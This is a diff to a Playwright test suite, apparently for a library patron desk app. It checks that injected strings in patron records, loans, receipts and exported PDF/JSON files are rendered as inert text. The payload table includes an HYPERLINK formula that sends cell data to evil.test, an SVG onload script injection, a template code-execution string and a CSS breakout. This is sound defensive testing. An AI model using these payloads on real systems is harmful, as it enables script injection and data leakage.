@@ -3,6 +3,7 @@
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { cardOf } from '../../drive/central.ts';
+import { readPdf } from '../../drive/pdf.ts';
 import { expect, test } from './attacked.ts';
 
 // Playwright takes a navigation that was refused for one that may yet come, and waits: so not after those attacks.
@@ -15,19 +16,23 @@ const TEXTS = {
   override: 'Lind\u202Eqvist\u2066\u200F',
   formula: `=HYPERLINK("https://evil.test/"&A1;"x")`,
   template: '{{ constructor.constructor("globalThis.attackRan=true")() }} ${7*7} %s %00',
+  style: `</style></span><style>@page{size:40mm 40mm}*{display:none!important}</style>`,
   script: `'"><svg/onload=globalThis.attackRan=true>//`,
 };
 
 test('is shown as text in the windows, in every field that takes text', async ({ attacked }) => {
   const { desk, colleague, patron, window } = attacked;
-  const { markup, link, override, formula, template, script } = TEXTS;
+  const { markup, link, override, formula, template, style, script } = TEXTS;
   await colleague.saveSection(patron.id, 'personal', {
     givenName: markup,
     familyName: `${override}${script}`,
   });
   await colleague.saveSection(patron.id, 'address', { line1: link, line2: template, town: formula });
-  await colleague.saveSection(patron.id, 'note', { staffNote: `${markup}\n${formula}\n${link}` });
+  await colleague.saveSection(patron.id, 'note', { staffNote: `${markup}\n${formula}\n${link}\n${style}` });
   const { v7 } = await import('uuid');
+  const title = `${style}${'T'.repeat(300)}${override}`;
+  const loan = { id: v7(), title, itemBarcode: '1', dueAt: '2099-01-01T10:00:00Z' };
+  expect((await colleague.act('POST', `/patrons/${patron.id}/loans`, loan)).status).toBe(201);
   const blocked = await colleague.act('POST', `/patrons/${patron.id}/blocks`, {
     id: v7(),
     comment: `${script} ${template} ${link}`,
@@ -78,7 +83,24 @@ test('that turns the line round stays within itself: what stands beside it is no
   }
 });
 
-test('stands in the JSON file to the letter, and the file’s name and the window’s title hold none of it', async ({
+test('takes nothing beyond the paper of a status receipt, and hides nothing of it', async ({ attacked }) => {
+  const { window } = attacked;
+  await window.keyboard.press('Control+p');
+  for (const paper of ['A4', 'Receipt printer, 80 mm']) {
+    await window.getByLabel('Paper').selectOption({ label: paper });
+    const receipt = window.locator('.receipt');
+    await expect(receipt).toContainText(TEXTS.style);
+    const beyond = await receipt.evaluate((sheet) => {
+      const { right, width } = sheet.getBoundingClientRect();
+      const parts = [...sheet.querySelectorAll('*')].map((part) => part.getBoundingClientRect());
+      return width < 100 ? ['nothing is left'] : parts.filter((part) => part.right > right + 1);
+    });
+    expect(beyond, paper).toEqual([]);
+  }
+  await window.keyboard.press('Escape');
+});
+
+test('stands in the files to the letter, and their name and the window’s title hold none of it', async ({
   attacked,
 }) => {
   const { desk, folders, window } = attacked;
@@ -91,6 +113,12 @@ test('stands in the JSON file to the letter, and the file’s name and the windo
   expect(personal).toMatchObject({ givenName: TEXTS.markup, familyName: `${TEXTS.override}${TEXTS.script}` });
   for (const letters of [TEXTS.formula, TEXTS.link])
     expect(text).toContain(JSON.stringify(letters).slice(1, -1));
+  const pdf = await readPdf(await readFile(join(folders.downloads, name.replace('.json', '.pdf'))));
+  for (const { width, height } of pdf.pages)
+    expect([width / 72, height / 72].map(Math.round)).toEqual([8, 12]);
+  const printed = pdf.pages.map((page) => page.text.replace(/\s/g, '')).join('');
+  for (const letters of [TEXTS.markup, TEXTS.style, TEXTS.formula])
+    expect(printed).toContain(letters.replace(/\s/g, ''));
   const titles = await desk.app.evaluate(({ BrowserWindow }) =>
     BrowserWindow.getAllWindows().map((w) => w.getTitle()),
   );
